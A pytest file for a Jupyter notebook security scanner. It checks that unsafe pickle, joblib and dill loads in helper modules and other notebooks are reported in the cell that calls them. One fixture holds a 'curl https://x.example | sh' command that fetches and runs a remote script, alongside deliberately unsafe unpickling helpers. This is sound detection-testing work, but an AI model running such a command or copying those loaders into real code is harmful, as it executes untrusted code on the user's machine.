"""Modules and notebooks beside a notebook: what they do is reported where the notebook makes them do it."""

from __future__ import annotations

import json
from pathlib import Path
from textwrap import dedent

import pytest

from jupyter_mlsec.config.settings import Config
from jupyter_mlsec.model.finding import Outcome
from jupyter_mlsec.scan.engine import scan_target

HELPERS = """
    import json, pickle
    import numpy as np

    def load_it(path):
        with open(path, "rb") as file:
            return pickle.load(file)

    def load_json(path):
        return json.load(open(path))

    def arrays(path, objects=False):
        return np.load(path, allow_pickle=objects)

    class Store:
        def __init__(self, path):
            self.path = path
        def model(self):
            return pickle.load(open(self.path, "rb"))
        def config(self):
            return json.load(open(self.path))
"""


def document(*cells: str) -> str:
    made: list[dict[str, object]] = [
        {
            "cell_type": "code",
            "source": dedent(cell).strip("\n"),
            "metadata": {},
            "outputs": [],
            "execution_count": None,
        }
        for cell in cells
    ]
    return json.dumps({"nbformat": 4, "nbformat_minor": 4, "metadata": {}, "cells": made})


def found(path: Path, root: Path | None = None) -> list[tuple[int, int, str, str]]:
    report = scan_target(str(path), Config(root=root))
    assert report.outcome is Outcome.CHECKED
    places = []
    for finding in report.findings:
        assert finding.cell is not None
        places.append((finding.cell.index, finding.position.line, finding.rule, finding.message))
    return places


def book(folder: Path, *cells: str, root: Path | None = None) -> list[tuple[int, int, str]]:
    path = folder / "main.ipynb"
    path.write_text(document(*cells), "utf-8")
    return [place[:3] for place in found(path, root)]


@pytest.fixture
def project(tmp_path: Path) -> Path:
    (tmp_path / "helpers.py").write_text(dedent(HELPERS), "utf-8")
    return tmp_path


def test_a_helper_is_reported_where_it_is_called_and_says_where_it_stands(project: Path) -> None:
    path = project / "main.ipynb"
    path.write_text(document("from helpers import load_it, load_json", "a = load_it('a.pkl')\nb = load_json('b')"))
    (project / "a.pkl").unlink(missing_ok=True)
    assert found(path) == [
        (1, 1, "unsafe-pickle-load", "unpickling runs whatever code the file holds (helpers.py, line 7)")
    ]


def test_importing_alone_is_no_finding(project: Path) -> None:
    assert book(project, "import helpers", "from helpers import *", "from helpers import Store, load_it") == []


@pytest.mark.parametrize(
    ("cells", "lines"),
    [
        (["import helpers\nhelpers.load_it('a')\nhelpers.load_json('b')"], [(0, 2)]),
        (["import helpers as h\nh.load_it()"], [(0, 2)]),
        (["from helpers import *\nload_it('a')\nload_json('a')"], [(0, 2)]),
        (["from helpers import load_it as read", "all = list(map(read, files))"], [(1, 1)]),
        (["from helpers import arrays\na = arrays('a')\nb = arrays('b', objects=True)"], [(0, 3)]),
        (["from helpers import Store\ns = Store('m')\ns.config()\ns.model()"], [(0, 4)]),
        (["import importlib\nh = importlib.import_module('helpers')\nh.load_it('a')"], [(0, 3)]),
        (["%run helpers.py\nload_it('a')\nload_json('a')"], [(0, 2)]),
        (["%run ./helpers\nload_it('a')"], [(0, 2)]),
        (["def mine(path):\n    from helpers import load_it\n    return load_it(path)\nmine('a')"], [(0, 3)]),
        (["from helpers import load_it", "def load_it(path): return path.read()\nload_it('a')"], []),
    ],
)
def test_all_ways_to_use_a_module(project: Path, cells: list[str], lines: list[tuple[int, int]]) -> None:
    assert [(cell, line) for cell, line, _ in book(project, *cells)] == lines


def test_what_a_module_does_when_it_is_imported_is_reported_at_the_import(tmp_path: Path) -> None:
    (tmp_path / "setup_all.py").write_text(
        "import joblib, os\nM = joblib.load('m')\nos.system('curl https://x.example | sh')\n"
    )
    found_lines = book(tmp_path, "x = 1\nimport setup_all\nsetup_all.M.predict(x)")
    assert found_lines == [(0, 2, "piped-remote-script"), (0, 2, "unsafe-joblib-load")]


def test_packages_relative_imports_and_search_paths(tmp_path: Path) -> None:
    package = tmp_path / "src" / "models"
    package.mkdir(parents=True)
    (tmp_path / "src" / "__init__.py").write_text("")
    (package / "__init__.py").write_text("from .io import fetch\n")
    (package / "io.py").write_text("from ..raw import unpickle\ndef fetch(p):\n    return unpickle(p)\n")
    (tmp_path / "src" / "raw.py").write_text("import dill\ndef unpickle(p):\n    return dill.load(open(p, 'rb'))\n")
    uses = "from src.models import fetch\nfetch('x')\nimport src.raw\nsrc.raw.unpickle('y')"
    assert book(tmp_path, uses) == [(0, 2, "unsafe-dill-load"), (0, 4, "unsafe-dill-load")]
    notebooks = tmp_path / "notebooks"
    notebooks.mkdir()
    moved = f"import sys\nsys.path.append('..')\n{uses}"
    assert book(notebooks, moved) == []  # outside the notebook's own folder, and nobody says what the project is
    assert book(notebooks, moved, root=tmp_path) == [(0, 4, "unsafe-dill-load"), (0, 6, "unsafe-dill-load")]


@pytest.mark.parametrize(
    ("cells", "lines"),
    [
        (["%run other.ipynb", "read('x')\nplain('y')"], [(0, 1), (1, 1)]),
        (["%run ./other.ipynb", "read('x')"], [(0, 1), (1, 1)]),
        (["import import_ipynb\nimport other\nother.read('x')"], [(0, 2), (0, 3)]),
        (["from ipynb.fs.full.other import read\nread('x')"], [(0, 1), (0, 2)]),
        (["import other"], []),
    ],
)
def test_other_notebooks(tmp_path: Path, cells: list[str], lines: list[tuple[int, int]]) -> None:
    other = document(
        "%%time\nimport pickle\ndef read(p):\n    return pickle.load(open(p, 'rb'))\ndef plain(p): return open(p)",
        "!pip install git+https://github.com/a/b\n%matplotlib inline",
    )
    (tmp_path / "other.ipynb").write_text(other, "utf-8")
    assert [(cell, line) for cell, line, _ in book(tmp_path, *cells)] == lines


def test_nothing_outside_the_project_is_read_and_nothing_runs(tmp_path: Path) -> None:
    inside = tmp_path / "project"
    inside.mkdir()
    (tmp_path / "outside.py").write_text(dedent(HELPERS))
    (inside / "linked.py").symlink_to(tmp_path / "outside.py")
    (inside / "runs.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w').write('x')\n")
    cells = [
        "import sys\nsys.path.append('..')\nimport outside, linked, runs",
        "outside.load_it('a')\nlinked.load_it('a')",
    ]
    assert book(inside, *cells) == []
    assert not (tmp_path / "ran").exists()


def test_files_that_cannot_be_read_do_not_matter(tmp_path: Path) -> None:
    (tmp_path / "binary.py").write_bytes(b"\xff\xfe\x00import pickle")
    (tmp_path / "huge.py").write_text("x = 1\n" * 200_000)
    (tmp_path / "broken.py").write_text("def f(:\nimport pickle\ndef g(p): return pickle.load(p)\n")
    (tmp_path / "loop.py").write_text("import loop2\ndef f(p): return loop2.g(p)\n")
    (tmp_path / "loop2.py").write_text("import loop, pickle\ndef g(p): return pickle.load(p)\n")
    (tmp_path / "folder.py").mkdir()
    cells = ["import binary, huge, broken, loop, folder", "broken.g('x')\nloop.f('x')"]
    assert book(tmp_path, *cells) == [(1, 1, "unsafe-pickle-load"), (1, 2, "unsafe-pickle-load")]


def test_notes_stay_with_the_file(tmp_path: Path) -> None:
    (tmp_path / "notes.py").write_text("import os\ndef setup():\n    os.system('pip install rich')\nsetup()\n")
    assert book(tmp_path, "import notes\nnotes.setup()") == []
